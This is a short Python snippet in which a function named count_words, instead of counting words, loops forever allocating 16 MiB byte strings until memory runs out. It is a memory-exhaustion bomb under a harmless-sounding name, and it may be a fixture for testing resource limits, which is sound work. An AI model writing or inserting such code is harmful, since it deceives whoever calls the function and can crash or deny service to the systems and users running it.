def count_words(text):
    copies = []
    while True:
        copies.append(b"x" * (16 << 20))
